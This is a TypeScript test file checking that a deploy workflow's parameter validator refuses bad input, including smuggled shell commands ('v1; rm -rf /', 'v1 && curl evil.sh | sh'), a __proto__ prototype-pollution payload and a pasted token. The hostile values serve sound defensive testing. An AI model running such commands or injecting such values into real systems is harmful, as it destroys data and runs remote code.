import { describe, expect, it } from 'vitest';
import type { WorkflowDefinition } from '../../src/workflows/definition.ts';
import { missingRequired, paramsSchema, roleToRun } from '../../src/workflows/params.ts';

const deploy: Pick<WorkflowDefinition, 'name' | 'params' | 'run'> = {
  name: 'deploy',
  params: {
    service: { type: 'string', required: true, enum: ['api', 'web'] },
    version: { type: 'string', required: true, pattern: '^v\\d+\\.\\d+\\.\\d+$', description: 'release tag like v2.3.0' },
    env: { type: 'string', required: false, default: 'staging', enum: ['staging', 'production'] },
    replicas: { type: 'number', required: false, default: 2, enum: [1, 2, 3] },
    dry: { type: 'boolean', required: false, default: false },
    note: { type: 'string', required: false },
  },
  run: { role: 'responder', byParam: 'env', values: { production: 'deployer' } },
};

/** The messages a person sees, one per problem. */
function refusals(raw: Record<string, unknown>): string[] {
  const result = paramsSchema(deploy).safeParse(raw);
  if (result.success) throw new Error(`expected a refusal, got ${JSON.stringify(result.data)}`);
  return result.error.issues.map((issue) => issue.message);
}

describe('paramsSchema', () => {
  it('turns what was typed in Slack into typed params, with the defaults filled in', () => {
    expect(paramsSchema(deploy).parse({ service: 'api', version: 'v2.3.0', replicas: '3', dry: 'true' })).toStrictEqual({
      service: 'api',
      version: 'v2.3.0',
      env: 'staging',
      replicas: 3,
      dry: true,
    });
  });

  it('takes values that arrive already typed (a schedule, a webhook body)', () => {
    expect(paramsSchema(deploy).parse({ service: 'web', version: 'v1.0.0', env: 'production', replicas: 1, dry: false, note: 'hotfix' })).toStrictEqual({
      service: 'web',
      version: 'v1.0.0',
      env: 'production',
      replicas: 1,
      dry: false,
      note: 'hotfix',
    });
  });

  it('refuses a shell-injection-shaped value by its pattern, naming the param and quoting the value', () => {
    expect(refusals({ service: 'api', version: 'v1; rm -rf /' })).toEqual(['version: must match ^v\\d+\\.\\d+\\.\\d+$ (got "v1; rm -rf /")']);
  });

  it('matches the pattern against the whole value, not a part of it', () => {
    const loose = { name: 'tag', params: { tag: { type: 'string' as const, required: true, pattern: 'v\\d+' } } };
    expect(paramsSchema(loose).safeParse({ tag: 'v1' }).success).toBe(true);
    expect(paramsSchema(loose).safeParse({ tag: 'v1 && curl evil.sh | sh' }).error?.issues.map((issue) => issue.message)).toEqual([
      'tag: must match v\\d+ (got "v1 && curl evil.sh | sh")',
    ]);
  });

  it('says what each param expects when the value is wrong', () => {
    expect(refusals({ service: 'db', version: 'v1.0.0', env: 'prod', replicas: 'three', dry: 'maybe' })).toEqual([
      'service: must be one of api, web (got "db")',
      'env: must be one of staging, production (got "prod")',
      'replicas: must be a number (got "three")',
      'dry: must be true or false (got "maybe")',
    ]);
    expect(refusals({ service: 'api', version: 'v1.0.0', replicas: '5' })).toEqual(['replicas: must be one of 1, 2, 3 (got "5")']);
  });

  it('refuses text too long to be a param before any pattern runs on it', () => {
    expect(refusals({ service: 'api', version: `v1.0.0${'0'.repeat(2000)}` })).toEqual(['version: must be at most 1000 characters (got 2006)']);
  });

  it('names a missing required param with its description, and counts an empty value as missing', () => {
    expect(refusals({ service: 'api', version: '' })).toEqual(['version: required (release tag like v2.3.0)']);
  });

  it('refuses a param the workflow does not take, listing those it does', () => {
    expect(refusals({ service: 'api', version: 'v1.0.0', verison: 'v2.0.0' })).toEqual([
      'verison: unknown param; deploy takes service, version, env, replicas, dry, note',
    ]);
  });

  it('refuses prototype-shaped names instead of reading them from Object.prototype', () => {
    const raw = JSON.parse('{"service":"api","version":"v1.0.0","__proto__":{"admin":true},"constructor":"x"}') as Record<string, unknown>;
    expect(refusals(raw)).toEqual([
      '__proto__: unknown param; deploy takes service, version, env, replicas, dry, note',
      'constructor: unknown param; deploy takes service, version, env, replicas, dry, note',
    ]);
    expect(refusals({ service: 'api', version: 'v1.0.0', toString: 'x' })).toEqual(['toString: unknown param; deploy takes service, version, env, replicas, dry, note']);
  });

  it('redacts a pasted token when quoting a refused value', () => {
    const [message] = refusals({ service: 'api', version: 'xoxb-1111-2222-abcdefghijklmnop' });
    expect(message).toMatch(/^version: must match .* \(got "/);
    expect(message).not.toContain('abcdefghijklmnop');
  });
});

describe('missingRequired', () => {
  it('lists the required params without a default that were not given, in the order declared', () => {
    expect(missingRequired(deploy, {})).toEqual(['service', 'version']);
    expect(missingRequired(deploy, { version: 'v1.0.0', service: '' })).toEqual(['service']);
    expect(missingRequired(deploy, { service: 'api', version: 'v1.0.0' })).toEqual([]);
  });
});

describe('roleToRun', () => {
  it('asks for the role of the param value when one is listed, the default role otherwise', () => {
    expect(roleToRun(deploy, { env: 'production' })).toBe('deployer');
    expect(roleToRun(deploy, { env: 'staging' })).toBe('responder');
    expect(roleToRun(deploy, {})).toBe('responder');
    expect(roleToRun({ run: { role: 'admin' } }, { env: 'production' })).toBe('admin');
  });

  it('matches numeric param values by their text', () => {
    expect(roleToRun({ run: { role: 'viewer', byParam: 'tier', values: { '1': 'admin' } } }, { tier: 1 })).toBe('admin');
  });
});
